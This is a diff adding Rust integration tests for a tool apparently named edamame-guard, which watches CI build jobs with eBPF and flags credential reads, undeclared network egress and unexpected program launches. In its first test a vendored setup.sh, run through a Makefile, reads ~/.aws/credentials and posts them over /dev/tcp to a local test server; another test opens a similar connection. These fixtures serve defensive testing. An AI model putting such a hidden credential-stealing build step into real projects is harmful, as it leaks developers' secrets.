@@ -1,0 +1,425 @@
+//! The program on real jobs and the kernel at hand. Without the rights, each test says so and passes.
+
+#[path = "../demo/network.rs"]
+mod network;
+
+#[path = "../demo/job.rs"]
+#[expect(dead_code, reason = "the demo uses all of it")]
+mod job;
+
+use std::fs;
+use std::io::{BufRead as _, BufReader, Read as _};
+use std::net::{Ipv4Addr, SocketAddrV4};
+use std::os::unix::process::{CommandExt as _, ExitStatusExt as _};
+use std::path::Path;
+use std::process::{Child, Command, Output, Stdio};
+use std::sync::{Mutex, PoisonError};
+use std::thread;
+
+use edamame_guard::sensors::ebpf::{Ebpf, Options, SensorError};
+use nix::sys::signal::{Signal, kill, killpg};
+use nix::unistd::Pid;
+use serde_json::Value;
+use tempfile::TempDir;
+
+use job::{Job, Manager, Package, Plan};
+use network::{Network, Sink};
+
+const SINK: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
+const GUARD: &str = env!("CARGO_BIN_EXE_edamame-guard");
+
+/// One job at a time: two cores have enough to do with one.
+static TURN: Mutex<()> = Mutex::new(());
+
+/// Runs a test in a network of its own, on a thread of its own, so that it goes away with the test.
+fn live(test: &str, body: impl FnOnce(&Network) + Send) {
+    let _turn = TURN.lock().unwrap_or_else(PoisonError::into_inner);
+    match Ebpf::start(&Options::default()) {
+        Ok(_) => {}
+        Err(SensorError::NotPermitted | SensorError::NoTypes | SensorError::NoCgroup) => {
+            println!("skipped: {test} needs root and BPF");
+            return;
+        }
+        Err(error) => panic!("{error}"),
+    }
+    let ended = thread::scope(|scope| {
+        scope
+            .spawn(|| {
+                let network = Network::enter(SINK).expect("a network of its own");
+                body(&network);
+                network.clear().expect("nothing is left");
+            })
+            .join()
+    });
+    if let Err(panic) = ended {
+        std::panic::resume_unwind(panic);
+    }
+}
+
+/// A home and a workspace with these files; `build.sh` is the step.
+struct Place {
+    root: TempDir,
+}
+
+impl Place {
+    fn new(script: &str) -> Self {
+        let place = Self { root: tempfile::tempdir().expect("a folder") };
+        fs::create_dir_all(place.root.path().join("home/.aws")).expect("a home");
+        fs::create_dir(place.root.path().join("work")).expect("a workspace");
+        place.write("home/.aws/credentials", "[default]\naws_secret_access_key = kZ9-not-a-real-one-4f\n");
+        place.write("work/build.sh", script);
+        place
+    }
+
+    fn write(&self, path: &str, text: &str) {
+        let path = self.root.path().join(path);
+        fs::create_dir_all(path.parent().expect("a folder")).expect("a folder");
+        fs::write(path, text).expect("written");
+    }
+
+    fn command(&self, words: &[&str]) -> Command {
+        let mut command = Command::new(GUARD);
+        command
+            .args(words)
+            .env_clear()
+            .env("HOME", self.root.path().join("home"))
+            .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
+            .current_dir(self.root.path().join("work"))
+            .stdin(Stdio::null());
+        command
+    }
+
+    /// `run` with the report in `report` beside the workspace.
+    fn run(&self, options: &[&str], job: &[&str]) -> Output {
+        let words = [&["run", "--report-dir", "../report"], options, &["--"], job].concat();
+        self.command(&words).output().expect("the guard starts")
+    }
+
+    fn report(&self) -> Value {
+        findings(&self.root.path().join("report"))
+    }
+
+    /// Judges the report's recording again and compares every file.
+    #[track_caller]
+    fn replay_is_the_same(&self, live: &Output) {
+        let again = self
+            .command(&["replay", "../report", "--report-dir", "../again"])
+            .output()
+            .expect("the guard starts");
+        let report = self.root.path().join("report");
+        let guard = findings(&report)["exit"]["guard"].as_i64();
+        assert_eq!(again.status.code().map(i64::from), guard, "{}", text(&again.stderr));
+        for file in ["findings.json", "results.sarif", "junit.xml", "summary.md"] {
+            let [live, again] = ["report", "again"].map(|folder| {
+                fs::read_to_string(self.root.path().join(folder).join(file)).expect("a report")
+            });
+            assert!(live == again, "{file} differs\n--- live\n{live}\n--- replayed\n{again}");
+        }
+        // What people read is the same too, but for the job's own words and the folder's name.
+        let told = |output: &Output, folder: &str| {
+            let text = text(&output.stderr);
+            let from = text.find("edamame-guard: ").expect("a verdict");
+            text[from..].replace(folder, "REPORT")
+        };
+        assert_eq!(told(live, "../report"), told(&again, "../again"));
+    }
+}
+
+fn findings(report: &Path) -> Value {
+    let path = report.join("findings.json");
+    let text = fs::read_to_string(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
+    serde_json::from_str(&text).expect("JSON")
+}
+
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+/// `rule object` of each finding that fails the job.
+fn failing(report: &Value) -> Vec<String> {
+    let findings = report["findings"].as_array().expect("findings");
+    let mut failing: Vec<String> = findings
+        .iter()
+        .filter(|finding| finding["fails"] == true)
+        .map(|finding| {
+            format!("{} {}", finding["rule"].as_str().unwrap(), finding["object"].as_str().unwrap())
+        })
+        .collect();
+    failing.sort();
+    failing
+}
+
+#[test]
+fn a_theft_fails_the_job_and_is_told_alike_by_a_replay() {
+    live("a_theft_fails_the_job_and_is_told_alike_by_a_replay", |network| {
+        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
+        let place = Place::new("set -eu\nmake -s deps\n");
+        place.write("work/Makefile", "deps:\n\t@sh vendor/setup.sh\n");
+        let thief = format!(
+            "bash <<'END'\nread -r -d '' body < ~/.aws/credentials\nexec 3<>/dev/tcp/{}/{}\n\
+             printf 'POST / HTTP/1.0\\r\\nContent-Length: %s\\r\\n\\r\\n%s' \"${{#body}}\" \"$body\" >&3\nread -r -t 10 <&3\nEND\n",
+            sink.address.ip(),
+            sink.address.port(),
+        );
+        place.write("work/vendor/setup.sh", &thief);
+        let output = place.run(&[], &["bash", "build.sh"]);
+        assert!(text(&sink.take()).contains("not-a-real-one"), "the theft was real");
+        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
+        let report = place.report();
+        let credential = place.root.path().canonicalize().unwrap().join("home/.aws/credentials");
+        assert_eq!(report["verdict"], "attack");
+        assert_eq!(
+            failing(&report),
+            [
+                format!("cred-file-access {}", credential.display()),
+                format!("egress-undeclared {}", sink.address)
+            ]
+        );
+        place.replay_is_the_same(&output);
+        for entry in fs::read_dir(place.root.path().join("report")).expect("the report").flatten() {
+            let written = text(&fs::read(entry.path()).expect("a file"));
+            assert!(!written.contains("not-a-real-one"), "{} holds the secret", entry.path().display());
+        }
+    });
+}
+
+#[test]
+fn a_clean_job_passes_its_status_on_and_is_told_alike_by_a_replay() {
+    live("a_clean_job_passes_its_status_on_and_is_told_alike_by_a_replay", |_| {
+        let place = Place::new("set -eu\necho built > out.txt\ncat out.txt\nexit 3\n");
+        let output = place.run(&[], &["bash", "build.sh"]);
+        assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
+        assert_eq!(text(&output.stdout), "built\n", "what the job prints is its own");
+        let report = place.report();
+        assert_eq!(
+            (&report["verdict"], &report["exit"]["command"]),
+            (&Value::from("clean"), &Value::from(3))
+        );
+        assert_eq!(report["findings"], Value::Array(Vec::new()), "{report:#}");
+        place.replay_is_the_same(&output);
+    });
+}
+
+#[test]
+fn a_policy_is_kept_beside_the_recording_and_judges_its_replay() {
+    live("a_policy_is_kept_beside_the_recording_and_judges_its_replay", |network| {
+        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
+        let place = Place::new(&format!(
+            "touch inside\ntouch ~/outside\nexec 3<>/dev/tcp/{}/{}\nid -u >/dev/null\n",
+            sink.address.ip(),
+            sink.address.port()
+        ));
+        place.write(
+            "work/.github/guard.yml",
+            "version: 1\ndefaults:\n  network: {allow: [\"api.example\"]}\n  files: {allow: [\"write ./**\"], deny: [\"write ~/outside\"]}\n  run: {allow: [touch]}\n",
+        );
+        let output = place.run(&[], &["bash", "build.sh"]);
+        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
+        let root = place.root.path().canonicalize().unwrap();
+        let program =
+            ["/usr/bin/id", "/bin/id"].iter().find_map(|path| fs::canonicalize(path).ok()).expect("id");
+        let mut wanted = [
+            format!("egress-undeclared {}", sink.address),
+            format!("file-undeclared {}", root.join("home/outside").display()),
+            format!("run-undeclared {}", program.display()),
+        ];
+        wanted.sort();
+        assert_eq!(failing(&place.report()), wanted);
+        place.replay_is_the_same(&output);
+
+        // The command line beats the file, in the replay as well.
+        let output = place.run(&["--fail-on", "none"], &["bash", "build.sh"]);
+        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+        assert_eq!(place.report()["verdict"], "divergence");
+        place.replay_is_the_same(&output);
+    });
+}
+
+#[test]
+fn exit_statuses_are_those_of_the_table() {
+    live("exit_statuses_are_those_of_the_table", |_| {
+        let place = Place::new("exit 7\n");
+        place.write("work/plain.txt", "no program\n");
+        for (job, status) in [
+            (&["true"][..], 0),
+            (&["bash", "build.sh"], 7),
+            (&["sh", "-c", "exit 255"], 255),
+            (&["sh", "-c", "kill -TERM $$"], 128 + 15),
+            (&["sh", "-c", "kill -INT $$"], 128 + 2),
+            (&["sh", "-c", "kill -KILL $$"], 128 + 9),
+            (&["./plain.txt"], 126),
+            (&["/"], 126),
+            (&["no-such-program"], 127),
+            (&["./missing"], 127),
+        ] {
+            let output = place.run(&[], job);
+            assert_eq!(output.status.code(), Some(status), "{job:?}: {}", text(&output.stderr));
+            if matches!(status, 126 | 127) {
+                let said = text(&output.stderr);
+                assert!(said.starts_with(&format!("error: cannot run `{}`: ", job[0])), "{job:?}: {said}");
+            }
+        }
+        // Signals of the job stand in the report as well.
+        place.run(&[], &["sh", "-c", "kill -TERM $$"]);
+        let report = place.report();
+        assert_eq!((&report["exit"]["signal"], &report["exit"]["command"]), (&Value::from(15), &Value::Null));
+    });
+}
+
+#[test]
+fn a_guard_that_cannot_do_its_work_starts_nothing() {
+    live("a_guard_that_cannot_do_its_work_starts_nothing", |_| {
+        let place = Place::new("");
+        place.write("work/bad.yml", "version: 2\n");
+        place.write("work/block.yml", "version: 1\nmode: block\n");
+        std::os::unix::fs::symlink("work", place.root.path().join("link")).expect("a link");
+        for (options, status) in [
+            (&["--policy", "bad.yml"][..], 125),
+            (&["--policy", "missing.yml"], 125),
+            (&["--policy", "block.yml"], 125),
+            (&["--mode", "block"], 125),
+            (&["--report-dir", "../link"], 125),
+            (&["--sensor", "procfs"], 2),
+            (&["--sensor", "seccomp"], 2),
+        ] {
+            let words = [&["run"], options, &["--", "touch", "ran"]].concat();
+            let output = place.command(&words).output().expect("the guard starts");
+            assert_eq!(output.status.code(), Some(status), "{options:?}: {}", text(&output.stderr));
+            assert!(!place.root.path().join("work/ran").exists(), "{options:?}");
+        }
+    });
+}
+
+/// A job that says when it runs and then waits to be ended.
+fn waiting(place: &Place, in_group: bool) -> Child {
+    let mut command = place.command(&[
+        "run",
+        "--report-dir",
+        "../report",
+        "--",
+        "sh",
+        "-c",
+        "echo running; exec sleep 100",
+    ]);
+    if in_group {
+        command.process_group(0);
+    }
+    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("the guard starts");
+    let mut line = String::new();
+    BufReader::new(child.stdout.as_mut().expect("piped")).read_line(&mut line).expect("a line");
+    assert_eq!(line, "running\n", "{child:?}");
+    child
+}
+
+fn ended(mut child: Child) -> (Option<i32>, String) {
+    let mut said = String::new();
+    child.stderr.take().expect("piped").read_to_string(&mut said).expect("UTF-8");
+    let status = child.wait().expect("a status");
+    assert_eq!(status.signal(), None, "the guard itself ends in order: {said}");
+    (status.code(), said)
+}
+
+#[test]
+fn a_signal_ends_the_job_and_the_reports_are_still_written() {
+    live("a_signal_ends_the_job_and_the_reports_are_still_written", |_| {
+        let place = Place::new("");
+        // A runner that cancels a job asks the guard to stop; it hands that on.
+        let child = waiting(&place, false);
+        kill(Pid::from_raw(i32::try_from(child.id()).unwrap()), Signal::SIGTERM).expect("sent");
+        assert_eq!(ended(child).0, Some(128 + 15));
+        assert_eq!(place.report()["exit"]["signal"], 15);
+        // A terminal sends Ctrl-C to everybody in the foreground.
+        let child = waiting(&place, true);
+        killpg(Pid::from_raw(i32::try_from(child.id()).unwrap()), Signal::SIGINT).expect("sent");
+        let (status, said) = ended(child);
+        assert_eq!(status, Some(128 + 2), "{said}");
+        assert_eq!(place.report()["exit"]["signal"], 2);
+    });
+}
+
+#[test]
+fn a_storm_of_launches_is_in_the_record_with_every_argument() {
+    const LAUNCHES: usize = 1_000;
+    live("a_storm_of_launches_is_in_the_record_with_every_argument", |_| {
+        let place = Place::new("perl storm.pl\n");
+        place.write(
+            "work/storm.pl",
+            &format!("for my $n (1 .. {LAUNCHES}) {{ my $pid = fork; if (!$pid) {{ exec '/bin/true', 'storm', $n }} waitpid $pid, 0 if $n % 8 == 0 }}\n1 while wait != -1;\n"),
+        );
+        let output = place.run(&[], &["bash", "build.sh"]);
+        assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
+        let evidence =
+            fs::read_to_string(place.root.path().join("report/evidence.jsonl")).expect("the record");
+        let mut seen = vec![0; LAUNCHES + 1];
+        for line in evidence.lines() {
+            let record: Value = serde_json::from_str(line).expect("JSON");
+            if record["activity"] != "launch" {
+                continue;
+            }
+            if let [_, word, number] = record["arguments"].as_array().expect("arguments").as_slice()
+                && word == "storm"
+            {
+                seen[number.as_str().expect("a word").parse::<usize>().expect("a number")] += 1;
+            }
+        }
+        assert!(seen[1..].iter().all(|count| *count == 1), "{seen:?}");
+        let report = place.report();
+        assert_eq!(report["coverage"]["lost_events"], 0);
+        assert!(report["steps"][0]["processes"].as_u64().expect("a count") > LAUNCHES as u64);
+        place.replay_is_the_same(&output);
+    });
+}
+
+/// The demo's job, poisoned and honest.
+fn demo(test: &str, manager: Manager) {
+    live(test, |network| {
+        if !Manager::installed().contains(&manager) {
+            println!("skipped: {test} needs {}", manager.name());
+            return;
+        }
+        let seed = fastrand::u64(..);
+        println!("{test}: seed {seed}");
+        let mut random = fastrand::Rng::with_seed(seed);
+        let sink = Sink::start(SocketAddrV4::new(network.address, 0)).expect("a server");
+        let plan = Plan::random(&mut random, manager, sink.address);
+        for package in [Package::Poisoned, Package::Honest] {
+            let root = tempfile::tempdir().expect("a folder");
+            let job = Job::make(root.path(), &plan, package).expect("a job");
+            let report = root.path().join("report");
+            let output = job.under(Path::new(GUARD), &report).output().expect("the guard starts");
+            let received = text(&sink.take());
+            let said = format!("seed {seed}, {package:?}: {}", text(&output.stderr));
+            match package {
+                Package::Poisoned => {
+                    assert!(plan.credential.secrets.iter().all(|secret| received.contains(secret)), "{said}");
+                    assert_eq!(output.status.code(), Some(86), "{said}");
+                    let credential = job.credential.display();
+                    let wanted = [
+                        format!("cred-file-access {credential}"),
+                        format!("egress-undeclared {}", sink.address),
+                    ];
+                    assert_eq!(failing(&findings(&report)), wanted, "{said}");
+                }
+                Package::Honest => {
+                    assert_eq!((output.status.code(), received.as_str()), (Some(0), ""), "{said}");
+                    assert_eq!(findings(&report)["findings"], Value::Array(Vec::new()), "{said}");
+                }
+            }
+        }
+    });
+}
+
+#[test]
+fn a_poisoned_package_is_caught_under_npm() {
+    demo("a_poisoned_package_is_caught_under_npm", Manager::Npm);
+}
+
+#[test]
+fn a_poisoned_package_is_caught_under_pip() {
+    demo("a_poisoned_package_is_caught_under_pip", Manager::Pip);
+}
+
+#[test]
+fn a_poisoned_package_is_caught_under_make() {
+    demo("a_poisoned_package_is_caught_under_make", Manager::Make);
+}
